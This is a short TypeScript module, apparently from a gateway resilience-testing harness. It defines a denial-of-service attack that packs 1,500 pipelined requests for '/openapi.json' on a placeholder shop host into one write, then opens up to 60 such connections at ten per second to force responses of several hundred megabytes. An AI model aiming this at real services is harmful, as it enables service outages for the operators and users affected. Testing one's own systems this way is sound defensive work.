import { type Attack } from './attack.ts';
import { openSteadily } from './open-steadily.ts';
import { openConnection } from './target.ts';

/** One write with 1,500 requests for the gateway's own largest page; the answers would be several hundred MB. */
const PACKET = 'GET /openapi.json HTTP/1.1\r\nHost: shop.example\r\n\r\n'.repeat(1_500);

export const packets: Attack = (targets, signal) =>
  openSteadily(targets, signal, {
    perSecond: 10,
    most: 60,
    open: (target) => openConnection(target, PACKET),
  });
